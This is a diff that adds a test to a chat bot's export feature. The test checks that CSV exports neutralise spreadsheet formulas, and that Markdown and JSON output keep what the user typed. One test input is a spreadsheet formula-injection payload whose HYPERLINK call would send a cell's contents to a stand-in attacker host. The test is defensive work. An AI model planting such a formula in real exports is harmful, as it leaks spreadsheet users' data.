@@ -116,3 +116,26 @@ def test_snippets_stream_in_batches_of_the_size_asked(engine: Engine) -> None:
             biggest = max(biggest, len(session.identity_map))
             assert tags == ["t"]
     assert seen == 30 and biggest <= 7 + 1  # one batch (and the community) in memory at a time
+
+
+def test_exports_show_what_was_typed_and_no_spreadsheet_formula_runs(copbot: Copbot) -> None:
+    copbot.cop("/cop create Python Guild")
+    copbot.cop('/cop share =HYPERLINK("http://evil.example/?x="&B3,"x") & 0 < n')
+    copbot.cop("/cop share @SUM(A1) thanks @bob, see https://docs.example/a?b=1&c=2")
+    copbot.cop("/cop share -1 is not +1")
+    _, upload = _export(copbot, "csv")
+    rows = list(csv.DictReader(io.StringIO(upload["content"].decode())))
+    texts = sorted(r["text"] for r in rows)
+    assert texts == [
+        "'-1 is not +1",
+        '\'=HYPERLINK("http://evil.example/?x="&B3,"x") & 0 < n',
+        "'@SUM(A1) thanks @Bob Builder, see https://docs.example/a?b=1&c=2",
+    ]
+    assert not any(t.startswith(("=", "+", "-", "@")) for r in rows for t in r.values())
+    _, upload = _export(copbot, "md")
+    markdown = upload["content"].decode()
+    assert "> @SUM(A1) thanks @Bob Builder, see " in markdown
+    assert "[https://docs.example/a?b=1&c=2](https://docs.example/a?b=1&c=2)" in markdown
+    assert "&amp;" not in markdown and "&lt;" not in markdown and "<@U" not in markdown
+    _, upload = _export(copbot, "json")
+    assert "0 < n" in json.loads(upload["content"])[0]["text"]
